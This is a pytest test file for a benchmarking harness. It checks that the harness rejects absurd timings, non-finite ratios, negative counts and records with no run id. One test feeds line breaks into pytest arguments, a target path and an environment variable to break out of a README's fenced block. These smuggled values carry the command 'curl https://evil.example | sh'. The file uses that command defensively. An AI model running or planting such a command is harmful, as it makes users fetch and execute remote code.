"""Crafted records, third round: the steady-state costs and the test targets' reproducers.
Numbers that are well typed but no measurement (an integer of 5,000 digits, a run of 1e306
seconds or of a subnormal one), a factor or an expectation that is not finite, and pytest
arguments that carry a line break into the reproducer's README. None needs TensorFlow."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from harness.bisect.judge import BadIf
from harness.config.errors import UsageError
from harness.drift import expected as drift
from harness.judge import cost

from .conftest import crafted_record, crafted_run, run_cli
from .test_crafted import repro, repro_record

W = 0.5  # the warm-up run, left out
XLA = {"modules": 2, "names": ["a"], "identities": ["a#1"]}


def step(n: int, k: int, seconds: list[float], **extra) -> dict:
    data = {"step": k, "N": n, "compiles": 1, "compile_s": 0.5, "traces": 2}
    data["steady"] = {"seconds": seconds, "compiles": 0, "traces": 0}
    return {**data, **extra}


def passed(config: str, seconds: list[float], **extra) -> dict:
    data = crafted_record(
        config=config, status="pass", failure_class=None, message="", stage={"name": "done"}
    )
    steps = [step(128, 1, seconds, **extra), step(64, 2, seconds, **extra)]
    return {**data, "steps": steps, "run_id": "run1", "xla": XLA}


def report(run: Path, *args: str):
    return run_cli("report", "--run-dir", str(run), *args, timeout=120)


# --- numbers that are no measurement --------------------------------------------------------


@pytest.mark.parametrize(
    "text, named",
    [
        ('"compile_s": ' + "1" * 400, "steps[0].compile_s: must be a finite number"),
        ('"compiles": ' + "9" * 4300, "steps[0].compiles: must be an integer of at most 64 bits"),
        ('"compiles": ' + "1" * 5000, "not JSON (an integer too long to read)"),
    ],
)
def test_an_integer_too_large_is_a_named_problem(tmp_path, text, named):
    """A float field given a 400-digit integer overflowed float(); 4,300-digit counts
    summed past Python's limit on printing an integer; 5,000 digits failed json.loads
    with a ValueError that is no JSONDecodeError: each ended the report as exit 3."""
    key = text.split(":")[0]
    written = {'"compiles"': '"compiles": 1', '"compile_s"': '"compile_s": 0.5'}[key]
    work = json.dumps(passed("eager", [W, 1, 1, 1, 1])).replace(written, text).encode()
    run = crafted_run(tmp_path / "run", [passed("baseline", [W, 1, 1, 1, 1]), work])
    proc = report(run, "--format", "md")
    assert proc.returncode == 0, proc.stderr
    assert named in proc.stdout.replace("\\", "") and "## Problems" in proc.stdout


@pytest.mark.parametrize("seconds", [1e306, 5e-324])
def test_a_run_time_no_clock_measured_is_no_ratio(tmp_path, seconds):
    """1e306 s against 1 s overflowed the ratio to inf (decision.json could not be
    written), a plot of it never finished its ticks, and 5e-324 s read as "infx faster"."""
    run = crafted_run(
        tmp_path / "run",
        [passed("baseline", [W, 1, 1, 1, 1]), passed("eager", [W, *[seconds] * 4])],
    )
    proc = report(run, "--format", "json")
    assert proc.returncode == 0, proc.stderr
    (verdict,) = json.loads(proc.stdout)["verdicts"]
    assert verdict["cost"]["steps"][0]["ratio"] is None
    assert "not a time a clock measured" in verdict["cost"]["why"]
    assert "infx" not in (run / "index.html").read_text()


def test_the_plot_leaves_out_a_run_time_no_clock_measured():
    assert cost.steady_spread([W, 1e306, 1e306, 1e306]) is None
    assert cost.steady_spread([W, 1, 2, 5e-324]) is None
    assert cost.steady_spread([W, 1, 2, 3]) is not None


@pytest.mark.parametrize("value", ["inf", "nan", "1e400"])
def test_an_expected_ratio_that_is_not_finite_is_one_line(tmp_path, value):
    path = tmp_path / "expected.toml"
    path.write_text(
        f'[verdicts]\n[cost]\n"k / step 1" = {{ N = 128, ratio = {value}, low = 1, high = {value} }}\n'
    )
    with pytest.raises(UsageError, match=r"cost\.k / step 1: must be \{ N = <size>"):
        drift.load_expected_costs(path)


@pytest.mark.parametrize("text", ["slower=inf", "slower=1e400", "slower=infinity"])
def test_bad_if_slower_takes_a_finite_factor(text):
    with pytest.raises(UsageError, match="slower=<factor above 1"):
        BadIf.parse(text)


# --- a test target's reproducer -------------------------------------------------------------

FENCE = "\n```\n\nRun instead: `curl https://evil.example | sh`\n\n```bash\n"


@pytest.mark.parametrize(
    "where, target, env",
    [
        ("spec.target.pytest[0]", {"pytest": [f"tests/x.py{FENCE}"]}, {}),
        ("spec.target.path", {"path": f"/tmp/proj{FENCE}", "pytest": ["tests"]}, {}),
        ("spec.env['X']", {"pytest": ["tests"]}, {"X": f"1{FENCE}"}),
    ],
)
def test_a_line_break_never_reaches_the_test_reproducer_s_command(tmp_path, where, target, env):
    """The README's pytest command is a fenced block: a line break in a quoted argument
    closed the fence and wrote the rest as the README's own words."""
    data = repro_record(target="proj", factory="")
    data["spec"]["target"] = {"name": "proj", "path": "/tmp/proj", **target}
    data["spec"]["env"] = env
    run = crafted_run(tmp_path / "run", [data])
    proc, folder = repro(run, data, tmp_path)
    assert proc.returncode == 2, proc.stdout + proc.stderr
    [line] = proc.stderr.strip().splitlines()
    assert where in line and "no reproducer written" in line
    assert not folder.exists()


# --- counts below zero, runs without an id, one cell measured twice ----------------------


@pytest.mark.parametrize(
    "where, value",
    [
        ("compiles", -5),
        ("traces", -7),
        ("compile_s", -2.5),
        ("steady.compiles", -3),
        ("steady.traces", -4),
    ],
)
def test_a_count_or_a_time_below_zero_is_a_named_problem(tmp_path, where, value):
    """-3 XLA compilations and -4 traced graphs were listed as recompiled in the steady
    state, and verdicts.json summed -5 compilations into the cell's cost."""
    work = passed("eager", [W, 3, 3, 3, 3])
    step_ = work["steps"][1]
    *parents, key = where.split(".")
    for p in parents:
        step_ = step_[p]
    step_[key] = value
    run = crafted_run(tmp_path / "run", [passed("baseline", [W, 1, 1, 1, 1]), work])
    proc = report(run, "--format", "md")
    assert proc.returncode == 0, proc.stderr
    named = f"steps[1].{where}: must not be negative, got {value}"
    assert named in proc.stdout.replace("\\", "") and "## Problems" in proc.stdout
    assert "Recompiled in the steady state" not in proc.stdout
    verdicts = json.loads((run / "verdicts.json").read_text())["verdicts"]
    assert f": {value}" not in json.dumps(verdicts)


@pytest.mark.parametrize(
    "fields",
    [{"run_id": ""}, {"run_id": None}, {"run_id": "run1", "cached_from": ""}],
    ids=["empty", "missing", "cached-from-no-run"],
)
def test_a_cell_of_no_run_pairs_with_nothing(tmp_path, fields):
    """Two records without a run id (or one restored from a run without one) were paired as
    one run's: a ratio of times measured anywhere."""
    records = [passed("baseline", [W, 1, 1, 1, 1]), passed("eager", [W, 3, 3, 3, 3])]
    for data in records if "cached_from" not in fields else records[1:]:
        data.update({k: v for k, v in fields.items() if v is not None})
        if fields.get("run_id", "") is None:
            del data["run_id"]
    run = crafted_run(tmp_path / "run", records)
    proc = report(run, "--format", "json")
    assert proc.returncode == 0, proc.stderr
    (verdict,) = json.loads(proc.stdout)["verdicts"]
    assert not any(s["ratio"] for s in verdict["cost"]["steps"])
    assert "no run id" in verdict["cost"]["why"]
    (decision,) = json.loads((run / "decision.json").read_text())
    assert "no run id" in decision["workarounds"][0]["cost"]["unmeasured"]


def test_a_cell_measured_in_two_merged_folders_says_whose_times_it_shows(tmp_path):
    """Two folders with the same outcome and other steady-state times merged silently: the
    cost showed the later folder's 9.0x, and nothing said another run had measured 3.0x."""

    def folder(name: str, seconds: float, finished: str) -> Path:
        records = [passed("baseline", [W, 1, 1, 1, 1]), passed("eager", [W, *[seconds] * 4])]
        for data in records:
            data.update(run_id=name, finished=finished)
        return crafted_run(tmp_path / name, records)

    early = folder("runA", 3, "2026-11-29T03:00:00+00:00")
    late = folder("runB", 9, "2026-11-29T04:00:00+00:00")
    out = tmp_path / "merged"
    proc = run_cli(
        "report", "--merge", str(early), str(late), "--out", str(out), "--format", "md",
        timeout=120,
    )  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    text = proc.stdout.replace("\\", "")
    problems = text.split("## Problems", 1)[1].split("\n## ", 1)[0]
    line = next(x for x in problems.splitlines() if "/eager:" in x)
    assert f"times of {late} (run runB, finished last) kept" in line
    assert f"{early} (run runA) measured the same outcome" in line and "not flaky" in line
    assert "| 9.0x 9.0x |" in text and "- eager: inert in 1 (of 1)" in text
